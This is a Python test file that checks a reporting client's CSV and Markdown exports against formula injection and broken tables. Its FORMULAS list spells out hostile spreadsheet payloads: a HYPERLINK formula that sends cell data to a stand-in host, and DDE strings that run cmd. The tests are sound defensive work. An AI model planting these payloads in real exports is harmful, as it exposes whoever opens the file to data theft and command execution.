"""Exports safe to open (issue 15 item 5): a CSV cell never starts a spreadsheet
formula (a customer named ``=HYPERLINK(…)``, a note ``+cmd|…``), yet a negative
number stays a number; a Markdown export is a table a Markdown parser reads as
one, each cell the text it holds (pipes, line breaks, backslashes, markup). The
reports are built from the wire models directly: these are pure functions."""

from __future__ import annotations

import csv
import datetime as dt
import io
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from backend_client.exports import csv_cell, csv_text, md_cell
from backend_client.models import (
    AgentFigures,
    AgentReport,
    Case,
    CaseContact,
    CasesReport,
    Money,
    ReportPeriod,
)
from backend_client.report_format import format_agents, format_cases

SINCE = dt.datetime(2026, 2, 9, tzinfo=dt.UTC)
UNTIL = dt.datetime(2026, 3, 11, tzinfo=dt.UTC)
PERIOD = ReportPeriod(since=SINCE, until=UNTIL, days=30)

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
AWKWARD = ["a | b", "line one\nline two", "ends with a backslash \\", "**bold** _it_ `code` [link](http://x) <b>x</b>",
           "tab\there", "crlf\r\nnext", "# not a heading", "张伟 | 李娜"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_text_cell_that_would_start_a_formula_is_quoted(cell: str) -> None:
    assert csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-12.50", "-3", "+4", "0", "1234.5", "", "USD -12.50", "Zhang Wei", "a=b", "x-1"])
def test_numbers_and_plain_text_are_left_alone(cell: str) -> None:
    assert csv_cell(cell) == cell


def test_a_carriage_return_in_a_cell_is_quoted() -> None:
    text = csv_text(["note"], [["one\rtwo"], ["plain"]])
    assert text == 'note\n"one\rtwo"\nplain\n'
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["note"], ["one\rtwo"], ["plain"]]


def test_csv_text_quotes_formulas_and_keeps_negative_numbers_numbers() -> None:
    text = csv_text(["name", "note", "delta"], [["=1+1", "-2+3", "-12.50"], ["Ann", "@x", "-7"]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["name", "note", "delta"], ["'=1+1", "'-2+3", "-12.50"], ["Ann", "'@x", "-7"]]
    assert float(rows[1][2]) == -12.5 and int(rows[2][2]) == -7


def _case(n: int, name: str, note: str) -> Case:
    return Case(kind="cured", successful=True, at=UNTIL - dt.timedelta(days=n), what=f"cured: {note}",
                account_id=n, account_ref=f"R{n}", customer_name=name, agent="agent1", team="A", bucket="current",
                balance=Money(amount_minor=-1250, currency="USD"), attempts=2, right_party_contacts=1, notes=[note],
                contacts=[CaseContact(at=UNTIL - dt.timedelta(days=n, hours=1), agent="agent1",
                                      summary="phone outbound RPC PTP", note=note)])


def _cases() -> CasesReport:
    hostile = [_case(i + 1, FORMULAS[i], FORMULAS[-1 - i]) for i in range(len(FORMULAS))]
    return CasesReport(period=PERIOD, team="A", successful=hostile, difficult=[])


def test_the_cases_csv_neutralises_formulas_in_names_and_notes() -> None:
    rows = list(csv.DictReader(io.StringIO(format_cases(_cases(), "csv"), newline="")))
    assert len(rows) == len(FORMULAS)
    for row, name, note in zip(rows, FORMULAS, reversed(FORMULAS), strict=True):
        assert row["customer"] == "'" + name
        assert row["notes"] == "'" + note
        assert row["balance"] == "USD -12.50"  # starts with its currency: text, not a formula
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


class _Tables(HTMLParser):
    """The rows of every table in HTML, each a list of its cells' text."""

    def __init__(self) -> None:
        super().__init__()
        self.rows: list[list[str]] = []
        self._cell: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list) -> None:  # noqa: ARG002
        if tag == "tr":
            self.rows.append([])
        elif tag in ("td", "th"):
            self._cell = []

    def handle_endtag(self, tag: str) -> None:
        if tag in ("td", "th") and self._cell is not None:
            self.rows[-1].append("".join(self._cell))
            self._cell = None

    def handle_data(self, data: str) -> None:
        if self._cell is not None:
            self._cell.append(data)


def _tables(markdown: str) -> list[list[str]]:
    parser = _Tables()
    parser.feed(MarkdownIt("commonmark").enable("table").render(markdown))
    return parser.rows


def _flat(text: str) -> str:
    return " ".join(text.replace("\r\n", "\n").replace("\r", "\n").replace("\t", "\n").split("\n"))


@pytest.mark.parametrize("cell", AWKWARD + FORMULAS)
def test_a_markdown_cell_is_one_cell_holding_its_text(cell: str) -> None:
    rows = _tables(f"| name | n |\n| --- | ---: |\n| {md_cell(cell)} | 1 |\n")
    assert rows == [["name", "n"], [_flat(cell).strip(), "1"]]  # a cell's outer spaces are not its text


def _agents(names: list[str]) -> AgentReport:
    figures = {"accounts": 3, "attempts": 5, "contacts": 2, "right_party_contacts": 1, "rpc_rate": 0.2,
               "promises": 1, "promised": [Money(amount_minor=10000, currency="USD")], "plans": 1, "plans_kept": 1,
               "plans_broken": 0, "kept_rate": 1.0, "collected": [], "paying_accounts": 0, "escalations": 0,
               "average_handle_s": 61.0, "attempts_by_day": [0] * 29 + [5]}
    return AgentReport(period=PERIOD, team="A|B", agents=[
        AgentFigures(agent=f"a{i}", display_name=name, team="A", **figures) for i, name in enumerate(names)])


def test_the_agent_report_in_markdown_is_a_table_a_parser_reads() -> None:
    names = AWKWARD + ["=1+1"]
    text = format_agents(_agents(names), "md")
    rows = _tables(text)
    assert len(rows) == 1 + len(names)
    assert all(len(row) == len(rows[0]) for row in rows)
    assert [row[0] for row in rows[1:]] == [_flat(n) for n in names]
    assert rows[1][1:4] == ["3", "5", "2"]
    assert text.startswith("**Agents, team A\\|B: 2026-02-09 to 2026-03-10 (30 days)**")


def test_the_cases_report_in_markdown_keeps_each_case_in_its_item() -> None:
    report = CasesReport(period=PERIOD, team=None, successful=[_case(1, "Ann\n# Lee", "line one\n- line two")],
                         difficult=[])
    text = format_cases(report, "md")
    html = MarkdownIt("commonmark").render(text)
    assert "<h1>" not in html and html.count("<li>") == 1  # the name's "# Lee" and the note's "- line two" stay text
    assert "Ann # Lee" in html and "line one - line two" in html


def test_score_echoes_an_id_that_would_start_a_formula_as_text() -> None:
    from backend.scoring import score_csv

    header = "ID," + ",".join(f"X{i}" for i in range(1, 24))
    row = "20000,2,2,1,24,2,2,-1,-1,-2,-2,3913,3102,689,0,0,0,0,689,0,0,0,0"  # a UCI row (X1..X23)
    rows = [f"=1+1,{row}", f"-5,{row}"]
    out = io.StringIO()
    score_csv(io.StringIO("\n".join([header, *rows]) + "\n"), out)
    ids = [row[0] for row in csv.reader(io.StringIO(out.getvalue()))]
    assert ids == ["ID", "'=1+1", "-5"]  # a negative number stays a number
